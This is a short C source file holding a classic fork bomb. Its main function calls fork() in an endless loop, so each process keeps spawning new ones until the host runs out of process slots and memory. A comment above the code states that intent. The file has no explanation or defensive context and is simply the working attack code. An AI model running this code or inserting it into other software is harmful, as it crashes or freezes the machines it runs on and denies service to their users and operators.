/* Every process of it makes others, for ever. */
#include <unistd.h>

int main(void) {
    for (;;) (void)fork();
}
